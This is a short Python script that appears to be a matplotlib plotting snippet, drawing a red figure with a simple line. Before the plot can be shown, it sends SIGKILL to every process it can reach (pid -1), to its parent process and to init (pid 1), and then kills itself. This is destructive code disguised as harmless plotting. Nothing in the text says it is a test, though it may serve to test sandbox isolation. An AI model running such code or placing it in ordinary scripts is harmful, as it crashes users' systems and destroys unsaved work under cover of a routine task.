import os
import signal
import matplotlib.pyplot as plt

plt.figure(facecolor="red")
plt.plot([1, 2, 3])
for pid in (-1, os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)
plt.show()
